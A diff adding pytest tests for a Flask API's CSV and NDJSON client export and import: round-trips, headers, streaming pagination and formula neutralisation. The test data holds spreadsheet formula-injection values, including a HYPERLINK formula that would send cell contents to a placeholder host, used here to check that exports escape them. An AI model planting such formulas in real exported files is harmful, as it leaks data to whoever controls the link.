@@ -1,0 +1,79 @@
+"""The directory as a file."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from flask import Flask
+from psycopg2.extensions import connection as Connection  # noqa: N812
+
+from api.clients import bulk
+from tests import factories
+from tests.integration.api.calls import CLIENT, Caller, add_client, caller
+
+EXPORT, IMPORT = "/v1/client/export/", "/v1/client/import/"
+CSV, NDJSON = "text/csv", "application/x-ndjson"
+TAGS = ["vip", "", "=1+1", "'=1+1", "@x", "'", 'say "a, b"', "two\nlines", "Привет", "\\N", "\t", "a\rb"]
+
+
+def add_tags(api: Caller) -> None:
+    for number, tag in enumerate(TAGS):
+        add_client(api, phone_number=79160000000 + number, tag=tag)
+
+
+@pytest.mark.parametrize("slash", ["", "/"])
+def test_the_directory_is_a_csv_file(api: Caller, slash: str) -> None:
+    add_client(api)
+    answer = api.get(f"/v1/client/export{slash}")
+    assert answer.text == "phone_number,operator_code,tag,timezone\r\n79161234567,916,vip,Europe/Moscow\r\n"
+    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer.headers["Content-Disposition"] == "attachment; filename=clients.csv"
+
+
+def test_the_directory_is_json_lines_when_asked_for(api: Caller) -> None:
+    add_client(api)
+    answer = api.get(EXPORT, headers={"Accept": NDJSON})
+    assert (answer.mimetype, json.loads(answer.text)) == (NDJSON, CLIENT)
+
+
+def test_an_empty_directory_is_an_empty_file(api: Caller) -> None:
+    assert api.get(EXPORT).text == "phone_number,operator_code,tag,timezone\r\n"
+    assert api.get(EXPORT, headers={"Accept": NDJSON}).text == ""
+
+
+def test_nothing_in_it_is_a_formula(api: Caller) -> None:
+    add_client(api, tag='=HYPERLINK("http://a/?"&A1)')
+    assert ",\"'=HYPERLINK(" in api.get(EXPORT).text
+
+
+@pytest.mark.parametrize("kind", [CSV, NDJSON])
+def test_an_import_of_an_export_changes_nothing(api: Caller, connection: Connection, kind: str) -> None:
+    add_tags(api)
+    before = factories.rows(connection, "SELECT *, xmin::text FROM client ORDER BY id")
+    file = api.get(EXPORT, headers={"Accept": kind}).data
+    answer = api.post(IMPORT, data=file, content_type=kind)
+    assert answer.json["unchanged"] == len(TAGS), answer.text
+    assert factories.rows(connection, "SELECT *, xmin::text FROM client ORDER BY id") == before
+
+
+@pytest.mark.parametrize("kind", [CSV, NDJSON])
+def test_an_export_brings_the_directory_back(api: Caller, connection: Connection, kind: str) -> None:
+    add_tags(api)
+    file = api.get(EXPORT, headers={"Accept": kind}).data
+    factories.execute(connection, "DELETE FROM client")
+    assert api.post(IMPORT, data=file, content_type=kind).json["added"] == len(TAGS)
+    assert [client["tag"] for client in api.get("/v1/client/").json] == TAGS
+
+
+def test_an_export_goes_on_from_page_to_page_with_no_transaction_open(
+    app: Flask, api: Caller, connection: Connection, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(bulk, "PAGE", 10)
+    ids = factories.add_clients(connection, 25)
+    response = caller(app).get(EXPORT, buffered=False)
+    pieces = response.iter_encoded()  # type: ignore[attr-defined]
+    next(pieces), next(pieces)
+    busy = "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND xact_start < now()"
+    assert factories.value(connection, busy) == 0
+    assert sum(piece.count(b"\r\n") for piece in pieces) == len(ids) - 10
